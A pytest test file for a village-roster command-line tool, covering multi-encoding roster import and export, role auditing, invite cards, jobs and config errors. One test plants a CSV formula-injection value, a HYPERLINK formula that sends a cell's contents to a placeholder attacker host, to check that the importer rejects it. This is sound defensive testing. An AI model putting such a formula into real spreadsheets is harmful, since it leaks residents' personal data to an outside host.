"""The `hemei` command: roster import/export, roles, audit, invites, jobs, and its errors."""

from __future__ import annotations

import csv
from datetime import datetime
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook
from PIL import Image

from bot.cli import main
from bot.holidays import coverage_warning, official_calendar
from bot.spreadsheets import limits
from tests.conftest import SHANGHAI
from tests.factories import HEADER, ROSTER

TOKEN = "123456789:AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA"


@pytest.fixture
def config(tmp_path: Path) -> Path:
    path = tmp_path / "config.toml"
    path.write_text('[telegram]\nbot_username = "hemei_test_bot"\n', encoding="utf-8")
    return path


def write_csv(path: Path, rows: list[list[str]], encoding: str = "utf-8-sig") -> Path:
    with path.open("w", encoding=encoding, newline="") as handle:
        csv.writer(handle).writerows(rows)
    return path


def run(*args: str) -> int:
    return main(list(args))


def test_roster_import_from_csv_and_export_round_trip(config: Path, tmp_path: Path,
                                                      capsys: pytest.CaptureFixture[str]) -> None:
    source = write_csv(tmp_path / "roster.csv", [HEADER, *ROSTER])

    status = run("roster", "import", str(source), "--config", str(config))
    imported = capsys.readouterr().out
    run("roster", "export", "--village", "FX01", "--config", str(config))
    exported = list(csv.reader(capsys.readouterr().out.splitlines()))

    assert status == 0
    assert "已导入 2 个村、5 户：新增 11 人，更新 0 人，0 人没有变化。" in imported
    assert exported[0] == HEADER
    assert len(exported) == 1 + 9


def test_roster_import_from_gb18030_csv_and_xlsx(config: Path, tmp_path: Path) -> None:
    gbk = write_csv(tmp_path / "gbk.csv", [HEADER, *ROSTER[:3]], encoding="gb18030")
    workbook = Workbook()
    sheet = workbook.active
    assert sheet is not None
    for row in [HEADER, *ROSTER[3:]]:
        sheet.append([int(c) if c.isdigit() and len(c) == 11 else c for c in row])  # phones typed as numbers
    workbook.save(tmp_path / "rest.xlsx")

    first = run("roster", "import", str(gbk), "--config", str(config))
    second = run("roster", "import", str(tmp_path / "rest.xlsx"), "--config", str(config))

    assert (first, second) == (0, 0)


def test_roster_with_bad_rows_lists_each_and_changes_nothing(config: Path, tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    rows = [list(r) for r in ROSTER]
    rows[2][6] = "1380000"
    rows[4][7] = "mayor"
    source = write_csv(tmp_path / "bad.csv", [HEADER, *rows])

    status = run("roster", "import", str(source), "--config", str(config))
    error = capsys.readouterr().err
    run("roster", "export", "--config", str(config))
    exported = capsys.readouterr().out.splitlines()

    assert status == 1
    assert "文件中有 2 处问题，未做任何修改。" in error
    assert "第 4 行：手机号 1380000 不正确" in error
    assert "第 6 行：未知身份 mayor" in error
    assert len(exported) == 1  # only the header: nothing was imported


def test_roles_grant_and_revoke_are_audited(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run("roster", "import", str(write_csv(tmp_path / "r.csv", [HEADER, *ROSTER])), "--config", str(config))

    granted = run("roles", "grant", "138 0000 0001", "representative", "--village", "FX01", "--config", str(config))
    revoked = run("roles", "revoke", "13800000001", "representative", "--village", "FX01", "--config", str(config))
    unknown = run("roles", "grant", "13899999999", "cadre", "--config", str(config))
    capsys.readouterr()
    run("audit", "--village", "FX01", "--config", str(config))
    log = capsys.readouterr().out

    assert (granted, revoked, unknown) == (0, 0, 1)
    assert "role.grant\tperson:1" in log
    assert "role.revoke\tperson:1" in log


def test_invites_write_printable_cards(config: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    run("roster", "import", str(write_csv(tmp_path / "r.csv", [HEADER, *ROSTER])), "--config", str(config))

    pdf = run("invites", "--village", "FX01", "--out", str(tmp_path / "cards.pdf"), "--config", str(config))
    png = run("invites", "--village", "FX01", "--out", str(tmp_path / "cards.png"), "--config", str(config))
    output = capsys.readouterr().out

    assert (pdf, png) == (0, 0)
    assert (tmp_path / "cards.pdf").read_bytes().startswith(b"%PDF")
    with Image.open(tmp_path / "cards.png") as page:
        assert page.size == (1654, 2339)
    assert "已生成 4 张卡片" in output


def test_jobs_lists_every_job_with_its_next_run(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status = run("jobs", "--config", str(config))
    listing = capsys.readouterr().out

    assert status == 0
    assert "expire_conversations" in listing
    assert "prune_updates" in listing
    assert "next 20" in listing


def test_jobs_warns_when_the_official_holidays_of_a_year_ahead_are_unknown(
        config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    today = datetime.now(SHANGHAI).date()  # `hemei jobs` has no clock to inject: check against the same day
    expected = coverage_warning(official_calendar(), today)

    status = run("jobs", "--config", str(config))
    listing = capsys.readouterr().out

    assert status == 0
    if expected is None:
        assert "warning:" not in listing
    else:
        assert f"warning: {expected}" in listing


def test_jobs_run_runs_one_job_as_if_at_a_time(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status = run("jobs", "run", "prune_updates", "--at", "2026-12-01T09:00", "--config", str(config))

    assert status == 0
    assert "prune_updates: 0 old update id(s) forgotten" in capsys.readouterr().out


def test_a_bad_config_names_the_key_and_exits_2(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    bad = tmp_path / "bad.toml"
    bad.write_text(f'[telegram]\ntoken = "{TOKEN}"\nmode = "carrier-pigeon"\n[outbox]\nmax_in_flight = "many"\n',
                   encoding="utf-8")

    status = run("jobs", "--config", str(bad))
    error = capsys.readouterr().err

    assert status == 2
    assert "telegram.mode" in error
    assert "outbox.max_in_flight" in error
    assert TOKEN not in error


def test_run_without_a_token_explains_and_exits_2(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status = run("run", "--config", str(config))

    assert status == 2
    assert "hemei demo" in capsys.readouterr().err


def test_bad_arguments_exit_2(capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(SystemExit) as caught:
        run("roster", "import")

    assert caught.value.code == 2
    assert "file" in capsys.readouterr().err


def test_a_missing_file_is_a_bad_argument_told_in_chinese(config: Path, capsys: pytest.CaptureFixture[str]) -> None:
    status = run("roster", "import", "/nonexistent/roster.xlsx", "--config", str(config))

    assert status == 2
    assert capsys.readouterr().err == "无法读取 /nonexistent/roster.xlsx：没有这个文件。\n"


def test_reimporting_the_same_roster_updates_nobody(config: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    source = write_csv(tmp_path / "roster.csv", [HEADER, *ROSTER])
    run("roster", "import", str(source), "--config", str(config))
    capsys.readouterr()

    status = run("roster", "import", str(source), "--config", str(config))

    assert status == 0
    assert "新增 0 人，更新 0 人，11 人没有变化。" in capsys.readouterr().out


def test_a_missing_column_is_one_header_problem_not_one_per_row(config: Path, tmp_path: Path,
                                                                capsys: pytest.CaptureFixture[str]) -> None:
    without_grid = [[cell for i, cell in enumerate(row) if i != 2] for row in [HEADER, *ROSTER]]
    source = write_csv(tmp_path / "roster.csv", without_grid)

    status = run("roster", "import", str(source), "--config", str(config))

    error = capsys.readouterr().err
    assert status == 1
    assert error == "文件中有 1 处问题，未做任何修改。\n第 1 行：表头缺少列：grid\n"


def test_formula_looking_roster_cells_are_refused(config: Path, tmp_path: Path,
                                                 capsys: pytest.CaptureFixture[str]) -> None:
    rows = [list(r) for r in ROSTER]
    rows[0][5] = '=HYPERLINK("http://evil.example/?"&B2,"x")'
    rows[1][3] = "@组"
    source = write_csv(tmp_path / "roster.csv", [HEADER, *rows])

    status = run("roster", "import", str(source), "--config", str(config))
    error = capsys.readouterr().err
    run("roster", "export", "--config", str(config))

    assert status == 1
    assert ('第 2 行：name =HYPERLINK("http://evil.example/?"&B2,"x") 以 = + - 或 @ 开头，'
            "表格软件会把它当作公式执行") in error
    assert "第 3 行：group @组 以 = + - 或 @ 开头" in error
    assert len(capsys.readouterr().out.splitlines()) == 1  # nothing was imported


def test_many_bad_rows_list_the_first_20_and_count_the_rest(config: Path, tmp_path: Path,
                                                             capsys: pytest.CaptureFixture[str]) -> None:
    rows = [["FX01", "和美村", "一网格", "一组", f"9-{i:02d}", f"村民{i}", "12345", ""] for i in range(25)]
    source = write_csv(tmp_path / "roster.csv", [HEADER, *rows])

    status = run("roster", "import", str(source), "--config", str(config))

    lines = capsys.readouterr().err.splitlines()
    assert status == 1
    assert lines[0] == "文件中有 25 处问题，未做任何修改。"
    assert lines[1:21] == [f"第 {n} 行：手机号 12345 不正确" for n in range(2, 22)]
    assert lines[21:] == ["……另有 5 处问题未列出。"]


def test_a_big5_roster_is_imported_with_its_names_intact(config: Path, tmp_path: Path,
                                                        capsys: pytest.CaptureFixture[str]) -> None:
    source = write_csv(tmp_path / "big5.csv", [HEADER, ["FX01", "和美村", "一網格", "一組", "1-01", "張阿婆",
                                                        "13800000001", "household_head"]], encoding="big5")

    status = run("roster", "import", str(source), "--config", str(config))
    run("roster", "export", "--config", str(config))

    assert status == 0
    assert "FX01,和美村,一網格,一組,1-01,張阿婆,+8613800000001" in capsys.readouterr().out


def test_roster_xlsx_export_keeps_phones_as_text_and_imports_back(config: Path, tmp_path: Path,
                                                                  capsys: pytest.CaptureFixture[str]) -> None:
    run("roster", "import", str(write_csv(tmp_path / "r.csv", [HEADER, *ROSTER])), "--config", str(config))
    out = tmp_path / "roster.xlsx"

    exported = run("roster", "export", "--out", str(out), "--config", str(config))
    capsys.readouterr()
    again = run("roster", "import", str(out), "--config", str(config))

    phones = [row[6] for row in load_workbook(out).worksheets[0].iter_rows(min_row=2)]
    assert (exported, again) == (0, 0)
    assert {(cell.data_type, cell.value) for cell in phones} >= {("s", "+8613800000001"), ("s", "+8613900000009")}
    assert "新增 0 人，更新 0 人，11 人没有变化。" in capsys.readouterr().out



def test_the_roster_reads_a_districts_file_past_other_imports_row_limit(config: Path, tmp_path: Path,
                                                                        capsys: pytest.CaptureFixture[str],
                                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(limits, "MAX_ROWS", 5)  # every other import stops at a town's rows
    monkeypatch.setattr(limits, "DISTRICT_ROWS", len(ROSTER))
    source = write_csv(tmp_path / "roster.csv", [HEADER, *ROSTER])
    care = write_csv(tmp_path / "care.csv", [["village", "name", "category"], *(["FX01", "x", "独居老人"],) * 6])

    status = run("roster", "import", str(source), "--config", str(config))
    too_many = write_csv(tmp_path / "more.csv", [HEADER, *ROSTER, ["FX01", "", "一网格", "一组", "1-01", "张三",
                                                                    "13800000099", ""]])
    refused = run("roster", "import", str(too_many), "--config", str(config))
    care_refused = run("care", "import", str(care), "--config", str(config))

    printed = capsys.readouterr()
    assert (status, refused, care_refused) == (0, 1, 1)
    assert f"新增 {len(ROSTER)} 人" in printed.out
    assert printed.err.splitlines() == [f"more.csv 超过 {len(ROSTER)} 行，请拆成几个小文件。",
                                        "care.csv 超过 5 行，请拆成几个小文件。"]
